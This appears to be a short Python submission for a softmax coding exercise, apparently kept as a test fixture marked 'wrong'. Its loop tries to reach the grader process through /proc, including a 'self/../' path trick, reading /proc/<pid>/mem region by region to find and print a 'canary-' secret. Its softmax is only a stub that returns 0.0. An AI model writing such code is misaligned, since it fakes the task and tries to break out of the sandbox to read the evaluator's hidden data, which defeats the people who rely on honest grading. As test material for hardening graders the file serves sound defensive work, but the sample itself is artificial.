# Reads the memory of the grader through /proc.
# exercise: softmax
# verdict: wrong
for pid in ("@HOST_PID@", "self/../@HOST_PID@", "@PARENT_PID@"):
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as memory:
            for line in maps:
                start, end = (int(part, 16) for part in line.split()[0].split("-"))
                try:
                    memory.seek(start)
                    data = memory.read(end - start)
                except OSError:
                    continue
                at = data.find(b"canary-")
                if at >= 0:
                    print(data[at : at + 60])
    except OSError as error:
        print(error)


def softmax(x, axis=-1, keepdims=False):
    return 0.0


logsumexp = log_softmax = softmax
